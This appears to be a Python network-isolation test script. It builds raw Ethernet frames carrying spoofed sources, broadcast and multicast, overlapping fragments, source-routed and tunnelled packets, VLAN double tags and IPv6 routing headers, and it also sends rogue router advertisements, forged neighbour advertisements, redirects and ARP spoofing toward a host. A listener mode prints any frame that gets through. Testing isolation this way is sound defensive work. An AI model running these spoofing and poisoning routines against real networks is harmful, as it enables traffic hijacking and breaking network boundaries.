#!/usr/bin/env python3
"""frames.py listen PORT
frames.py OWN4 OWN6 HOST4 HOST6 OTHER4 OTHER6 PORT

From a server, with raw frames, everything by which a datagram might come to a socket of the host or of another server on PORT that listens on
every address: other sources, broadcast, multicast, fragments, extension headers, source routes, VLAN tags, tunnels; and what would change
the host's neighbours and routes. The datagrams say "HIT" and how they went; whoever listens prints them."""
import ipaddress
import select
import socket
import struct
import subprocess
import sys



def listen(port):
    four, six = (socket.socket(family, socket.SOCK_DGRAM) for family in (socket.AF_INET, socket.AF_INET6))
    six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    for number, _ in socket.if_nameindex():
        four.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("@4s4si", packed("224.0.0.251"), b"\0" * 4, number))
        six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, struct.pack("@16sI", packed("ff02::fb"), number))
    four.bind(("", port)), six.bind(("", port))
    print("ready", flush=True)
    while True:
        for heard in select.select([four, six], [], [])[0]:
            print(heard.recv(2000).decode(), flush=True)


def packed(address):
    return ipaddress.ip_address(address).packed


if sys.argv[1] == "listen":
    listen(int(sys.argv[2]))
OWN4, OWN6, HOST4, HOST6, OTHER4, OTHER6, PORT = sys.argv[1:7] + [int(sys.argv[7])]
UDP, ICMP6, FRAGMENT, HOP, ROUTING, OPTIONS = 17, 58, 44, 0, 43, 60
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


NEIGHBOURS = subprocess.run(["ip", "neighbour"], capture_output=True, text=True, check=True).stdout.split()
OURS = mac(open("/sys/class/net/eth0/address").read().strip())
THEIRS = mac(NEIGHBOURS[NEIGHBOURS.index("lladdr") + 1])
EVIL = bytes.fromhex("026666666666")


def ethernet_to(address):
    """Frames go to the host, but for those that each one on an Ethernet takes."""
    bytes_ = packed(address)
    if len(bytes_) == 16:
        return b"\x33\x33" + bytes_[12:] if bytes_[0] == 0xFF else THEIRS
    if bytes_[0] & 0xF0 == 0xE0:
        return b"\x01\x00\x5e" + bytes([bytes_[1] & 0x7F]) + bytes_[2:]
    return b"\xff" * 6 if bytes_[3] == 255 else THEIRS


def put(kind, payload, to=None):
    for destination in {to or THEIRS, THEIRS}:
        wire.send(destination + OURS + struct.pack("!H", kind) + payload)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def four(source, to, protocol, body, fragment=0, number=7, options=b""):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(body), number, fragment, 64, protocol, 0)
    head += packed(source) + packed(to) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def six(source, to, following, body, hops=64):
    return struct.pack("!IHBB", 6 << 28, len(body), following, hops) + packed(source) + packed(to) + body


def summed(source, to, protocol, body, at):
    pseudo = packed(source) + packed(to) + struct.pack("!II", len(body), protocol)
    return body[:at] + struct.pack("!H", checksum(pseudo + body) or 0xFFFF) + body[at + 2:]


def udp(text):
    return struct.pack("!HHHH", 4444, PORT, 8 + len(text), 0) + text.encode()


def udp6(source, to, text):
    return summed(source, to, UDP, udp(text), 6)


def icmp6(source, to, kind, body, hops=255):
    put(0x86DD, six(source, to, ICMP6, summed(source, to, ICMP6, struct.pack("!BBH", kind, 0, 0) + body, 2), hops), ethernet_to(to))


def plain():
    for to in (HOST4, OTHER4, "255.255.255.255", "10.77.0.255", "224.0.0.1", "224.0.0.251"):
        for source in {OWN4, "0.0.0.0", "127.0.0.1", HOST4, OTHER4, to}:
            put(0x800, four(source, to, UDP, udp(f"HIT plain {source} {to}")), ethernet_to(to))


def fragments():
    body = udp("HIT fragments" + "x" * 19)
    for to, number in ((HOST4, 21), (OTHER4, 22)):
        first, last = four(OWN4, to, UDP, body[:8], 0x2000, number), four(OWN4, to, UDP, body[8:], 1, number)
        for piece in (first, last, last[:4] + b"\0\x63" + last[6:], first):
            put(0x800, piece)


def source_routes():
    for kind in (131, 137):
        for through, to in ((HOST4, OTHER4), ("10.77.0.1", HOST4), ("10.77.0.1", OTHER4), (OTHER4, HOST4)):
            put(0x800, four(OWN4, through, UDP, udp("HIT source route"), options=bytes([kind, 7, 4]) + packed(to) + b"\0"))


def tags():
    for to in (HOST4, OTHER4):
        inner = struct.pack("!HH", 0, 0x800) + four(OWN4, to, UDP, udp("HIT tag"))
        put(0x8100, inner)
        put(0x88A8, struct.pack("!HH", 0, 0x8100) + inner)


def extension_headers():
    nothing = bytes([UDP, 0, 1, 4, 0, 0, 0, 0])
    for to in (HOST6, OTHER6, "ff02::1", "ff02::fb", "fe80::1", "::1"):
        for source in {OWN6, "::", "fe80::2", "::1", HOST6, OTHER6, "::ffff:10.77.0.2"}:
            body = udp6(source, to, f"HIT headers {source} {to}" + "x" * 16)
            whole = bytes([UDP, 0, 0, 0]) + struct.pack("!I", 9)
            first = bytes([FRAGMENT, 0, 1, 4, 0, 0, 0, 0]) + bytes([UDP, 0, 0, 1]) + struct.pack("!I", 10) + body[:16]
            last = bytes([FRAGMENT, 0, 1, 4, 0, 0, 0, 0]) + bytes([UDP, 0]) + struct.pack("!HI", 16, 10) + body[16:]
            for following, payload in ((UDP, body), (HOP, nothing + body), (OPTIONS, nothing + body), (FRAGMENT, whole + body),
                                       (OPTIONS, first), (OPTIONS, last)):
                put(0x86DD, six(source, to, following, payload), ethernet_to(to))


def routing_headers():
    home = bytes([UDP, 2, 1, 2, 0, 0, 201, 16]) + packed(OTHER6)
    put(0x86DD, six(OWN6, HOST6, OPTIONS, home + udp6(OTHER6, HOST6, "HIT home address")))
    for kind in (0, 2, 4):
        for through, to in ((HOST6, OTHER6), ("fd77::1", HOST6), (OTHER6, HOST6)):
            put(0x86DD, six(OWN6, through, ROUTING, bytes([UDP, 2, kind, 1, 0, 0, 0, 0]) + packed(to) + udp6(OWN6, to, "HIT routing")))


def tunnels():
    for to in (HOST4, OTHER4):
        put(0x800, four(OWN4, to, 41, six(OWN6, HOST6, UDP, udp6(OWN6, HOST6, "HIT 6in4"))))
        put(0x800, four(OWN4, to, 4, four("10.77.0.1", to, UDP, udp("HIT ipip"))))


def neighbours():
    prefix = bytes([3, 4, 64, 0xC0]) + struct.pack("!III", 86400, 86400, 0) + packed("fdee::")
    for source in (OWN6, "fe80::1", "fe80::2", "::"):
        for to in (HOST6, "fe80::1", "ff02::1", "ff02::1:ff00:2"):
            icmp6(source, to, 134, struct.pack("!BBHII", 64, 0, 1800, 0, 0) + prefix)
            icmp6(source, to, 135, struct.pack("!I", 0) + packed(HOST6) + b"\x01\x01" + EVIL)
            icmp6(source, to, 136, struct.pack("!I", 0x60000000) + packed("fd77::1") + b"\x02\x01" + EVIL)
            icmp6(source, to, 137, struct.pack("!I", 0) + packed("fe80::2") + packed("fd77::1"))
    put(0x800, four(OWN4, HOST4, 1, struct.pack("!BBH", 5, 1, 0) + packed(OWN4) + four(HOST4, "10.77.0.1", UDP, b"\0" * 8)))
    for kind in (1, 2):
        put(0x806, struct.pack("!HHBBH", 1, 0x800, 6, 4, kind) + EVIL + packed("10.77.0.1") + THEIRS + packed(HOST4), b"\xff" * 6)


for attack in (plain, fragments, source_routes, tags, extension_headers, routing_headers, tunnels, neighbours):
    attack()
